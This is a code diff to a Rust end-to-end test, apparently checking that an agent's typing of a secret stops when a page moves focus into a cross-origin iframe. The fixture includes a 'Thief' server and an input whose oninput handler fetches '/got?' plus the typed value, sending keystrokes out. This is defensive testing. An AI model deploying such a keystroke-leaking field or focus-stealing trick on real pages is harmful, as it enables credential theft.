@@ -203,16 +203,10 @@ async fn a_secret_goes_where_it_may(app: App, agent: Agent) -> e2e::Result {
 #[e2e::test]
 async fn typing_stops_where_the_page_moves_it(app: App, agent: Agent) -> e2e::Result {
     let thief = Thief::start().await;
+    let inner = page("<input autofocus aria-label=Note oninput=\"fetch('/got?' + value)\">");
     let frame = format!(
-        "<iframe id=f title=Login src='{}' width=300 height=60></iframe>",
-        format!(
-            "{}{}",
-            thief.origin,
-            page(
-                "<input autofocus aria-label=Note oninput=\"fetch('/got?' + value)\">
-            <script>onmessage = () => document.querySelector('input').focus()</script>"
-            )
-        )
+        "<iframe id=f title=Login src='{}{inner}' width=300 height=60></iframe>",
+        thief.origin
     );
     let field = |js: &str| FIELD.replace("<input", &format!("<input id=p {js}"));
     let note = "<label>Note <input id=n></label>";
@@ -229,10 +223,7 @@ async fn typing_stops_where_the_page_moves_it(app: App, agent: Agent) -> e2e::Re
         ),
         (
             "the focus moves into a frame of another origin",
-            format!(
-                "{}{note}{frame}",
-                field("onkeyup=\"f.contentWindow.postMessage(1, '*')\"")
-            ),
+            format!("{}{note}{frame}", field("onkeyup=f.focus()")),
             "would have gone to",
         ),
     ] {
